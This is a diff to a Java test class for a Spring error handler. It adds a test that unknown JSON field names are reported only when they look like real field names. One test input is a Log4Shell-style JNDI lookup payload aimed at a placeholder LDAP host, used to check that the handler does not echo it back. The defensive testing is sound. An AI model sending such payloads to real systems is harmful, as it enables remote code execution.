@@ -40,7 +40,11 @@ class ProblemDetailsAdviceTest {
     }
 
     private static ProblemDetail unreadable(String json, Class<?> type) {
-        Throwable failure = catchThrowable(() -> JSON.readValue(json, type));
+        return unreadable(JSON, json, type);
+    }
+
+    private static ProblemDetail unreadable(ObjectMapper mapper, String json, Class<?> type) {
+        Throwable failure = catchThrowable(() -> mapper.readValue(json, type));
         ResponseEntity<Object> response = new ProblemDetailsAdvice().handleHttpMessageNotReadable(
                 new HttpMessageNotReadableException("unreadable", failure, new MockHttpInputMessage(new byte[0])),
                 new HttpHeaders(), HttpStatus.BAD_REQUEST, null);
@@ -71,6 +75,20 @@ class ProblemDetailsAdviceTest {
 
         assertThat(problem.getProperties()).containsEntry("errors",
                 List.of(new ProblemDetailsAdvice.FieldProblem("kind", "is not a known code")));
+    }
+
+    @Test
+    void anUnknownFieldIsNamedOnlyIfItLooksLikeAFieldName() {
+        ObjectMapper strict = JSON.copy().enable(com.fasterxml.jackson.databind.DeserializationFeature
+                .FAIL_ON_UNKNOWN_PROPERTIES);
+
+        assertThat(unreadable(strict, "{\"startsOn\": null, \"anonymus\": true}", Period.class).getProperties())
+                .containsEntry("errors", List.of(new ProblemDetailsAdvice.FieldProblem("anonymus",
+                        "is not a known field")));
+        ProblemDetail hostile = unreadable(strict, "{\"${jndi:ldap://x.example/a}\": 1}", Period.class);
+        assertThat(hostile.getProperties()).containsEntry("errors",
+                List.of(new ProblemDetailsAdvice.FieldProblem("(unknown field)", "is not a known field")));
+        assertThat(hostile.toString()).doesNotContain("jndi");
     }
 
     @Test
